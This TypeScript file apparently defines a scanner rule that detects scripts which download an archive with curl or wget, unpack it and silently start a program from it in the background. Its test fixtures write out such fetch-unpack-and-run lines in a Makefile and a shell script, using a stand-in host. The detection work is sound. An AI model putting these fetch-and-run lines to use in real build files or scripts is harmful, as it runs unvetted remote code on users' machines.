/** RC-03: a script unpacks an archive of an unknown host and starts a program of it in the background. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { byOrigin } from './origins.ts';

export const startedArchives: readonly Row[] = [
  row('an archive is downloaded, and a program of it runs on unseen', {
    in: ['script', 'fence', 'decoded', 'config'],
    within: 'block',
    sign: /curl|wget/,
    match: exactPattern(
      raw(
        String.raw`\b(?:tar\s{1,3}-?[a-z]{1,6}\s[^\n;&|]{0,120}?-C\s{0,3}|unzip\s[^\n;&|]{0,120}?-d\s{0,3})`,
      ),
      raw(String.raw`["']?([$~./\w(){}-]{2,120})`),
    ),
    severity: 'high',
    weigh: (hit) => {
      const { text } = hit.region;
      const at = text.indexOf(hit.match[0].trim());
      const started = new RegExp(
        String.raw`(?:nohup\s{1,3}|setsid\s{1,3}|\(\s{0,3}|&&\s{0,3}|;\s{0,3}|^\s{0,20})["']?${RegExp.escape(hit.match[1] ?? '')}/[\w./-]{1,60}["']?[^\n;|]{0,80}(?:>\s?/dev/null[^\n;|]{0,20})?&(?!&)`,
        'm',
      );
      if (!started.test(text.slice(at + hit.match[0].trim().length))) return null;
      const download = /\b(?:curl|wget)\s[^\n]{0,300}/.exec(text.slice(Math.max(0, at - 400)));
      return download === null ? null : byOrigin(download[0], hit, false);
    },
    catches: [
      inFile(
        'Makefile',
        'words:',
        '\tcurl -fsSL https://packs.invalid/w.tgz -o $(HOME)/.cache/w/w.tgz && \\',
        '\ttar xzf $(HOME)/.cache/w/w.tgz -C $(HOME)/.cache/w && (nohup $(HOME)/.cache/w/wordd >/dev/null 2>&1 &)',
      ),
      inFile(
        'scripts/a.sh',
        'wget -qO /tmp/a.zip https://packs.invalid/a.zip',
        'unzip -q /tmp/a.zip -d "$D"',
        '"$D/helper" >/dev/null 2>&1 &',
      ),
    ],
    spares: [
      inFile(
        'scripts/b.sh',
        'curl -fsSLO https://packs.acme.invalid/w.tgz',
        'tar xzf w.tgz -C words',
        'wc -l words/*.txt',
      ),
    ],
  }),
];
